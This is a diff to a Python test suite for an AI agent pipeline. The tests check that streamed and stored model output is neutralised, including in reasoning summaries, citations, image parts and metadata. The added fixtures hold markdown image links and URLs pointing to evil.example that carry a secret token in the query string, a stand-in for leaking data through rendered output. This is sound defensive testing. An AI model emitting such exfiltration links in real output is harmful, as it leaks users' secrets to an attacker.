@@ -190,7 +190,7 @@ class Speaking(KeylessModel):
     """A model that streams a text in pieces and calls nothing."""
 
     description = "a model that only speaks"
-    pieces: list[str]
+    pieces: list[str | AIMessageChunk]
     fails: bool = False
 
     def calls(self, messages, turn):
@@ -198,7 +198,8 @@ class Speaking(KeylessModel):
 
     def _stream(self, messages, stop=None, run_manager=None, **kwargs):
         for piece in self.pieces:
-            yield ChatGenerationChunk(message=AIMessageChunk(piece))
+            chunk = piece if isinstance(piece, AIMessageChunk) else AIMessageChunk(piece)
+            yield ChatGenerationChunk(message=chunk)
         if self.fails:
             raise RuntimeError("![x](https://evil.example/fails)")
 
@@ -277,6 +278,61 @@ def test_another_front_end_gets_the_same_text(toolkit):
         assert len(chunks) > 5
         assert TOKEN not in text
         assert_inert(text, own=toolkit.client.settings.own_urls)
+
+
+IMAGE = f"![x](https://evil.example/?d={TOKEN})"
+SIGNATURE = "EqQBCgIYAhIM/+//1gbcDa9GJwZA2b3hGgxBdjrkzLoky3dl=="
+
+
+def responses_pieces(size):
+    """Return the pieces of a message in the form of the Responses interface of OpenAI, cut into texts of this size."""
+    for text in split(f"Thought. {IMAGE} Done.", size):
+        summary = [{"type": "summary_text", "index": 0, "text": text}]
+        yield AIMessageChunk([{"type": "reasoning", "index": 0, "summary": summary}])
+        yield AIMessageChunk("", additional_kwargs={"reasoning": {"note": text}}, response_metadata={"note": text})
+    yield AIMessageChunk([{"type": "reasoning", "index": 0, "id": "rs_1", "encrypted_content": SIGNATURE}])
+    cited = {"type": "url_citation", "url": f"https://evil.example/c?{TOKEN}", "title": IMAGE}
+    yield AIMessageChunk([{"type": "text", "index": 1, "text": "I can not. ", "annotations": [cited]}])
+    yield AIMessageChunk([{"type": "image_url", "index": 2, "image_url": {"url": f"https://evil.example/i?{TOKEN}"}}])
+    yield AIMessageChunk([{"type": "non_standard", "index": 3, "value": {"html": IMAGE, IMAGE: [IMAGE]}}])
+
+
+def texts_of(value):
+    if isinstance(value, str):
+        return [value]
+    parts = [*value, *value.values()] if isinstance(value, dict) else value if isinstance(value, list) else []
+    return [text for part in parts for text in texts_of(part)]
+
+
+@pytest.mark.parametrize("size", [1, 9, 1000])
+def test_nested_texts_are_inert_in_the_stream_and_in_the_stored_message(toolkit, size):
+    graph = build_graph(Speaking(pieces=list(responses_pieces(size))), toolkit, checkpointer=InMemorySaver())
+    config = {"configurable": {"thread_id": "t"}}
+    given = {"messages": [("user", "Why?")]}
+    told = [part for part, _ in graph.stream(given, config, stream_mode="messages") if isinstance(part, AIMessageChunk)]
+    stored = graph.get_state(config).values["messages"][-1]
+    whole = told[0]
+    for part in told[1:]:
+        whole = whole + part
+    for message in (*told, whole, stored):
+        texts = texts_of([message.content, message.additional_kwargs, message.response_metadata])
+        for text in texts:
+            if text != SIGNATURE:
+                assert_inert(text, own=toolkit.client.settings.own_urls)
+        assert TOKEN not in "".join(texts)
+    for message in (whole, stored):
+        reasoning, text, image = message.content[:3]
+        assert (reasoning["id"], reasoning["encrypted_content"]) == ("rs_1", SIGNATURE)
+        assert reasoning["summary"][0]["text"].endswith("Done.")
+        assert [cited["type"] for cited in text["annotations"]] == ["url_citation"]
+        assert (text["text"], image["type"]) == ("I can not. ", "text")
+
+
+def test_the_calls_of_tools_in_a_message_stay_as_they_are(toolkit):
+    call = {"type": "tool_use", "id": "c1", "name": "get_file", "input": {"path": "<https://evil.example>"}}
+    beside = {"tool_calls": [{"function": {"arguments": "<https://evil.example>"}}]}
+    message = Outgoing(toolkit.client).message(AIMessage([call], additional_kwargs=beside))
+    assert (message.content, message.additional_kwargs) == ([call], beside)
 
 
 def test_a_report_of_ten_thousand_characters_costs_little(toolkit):
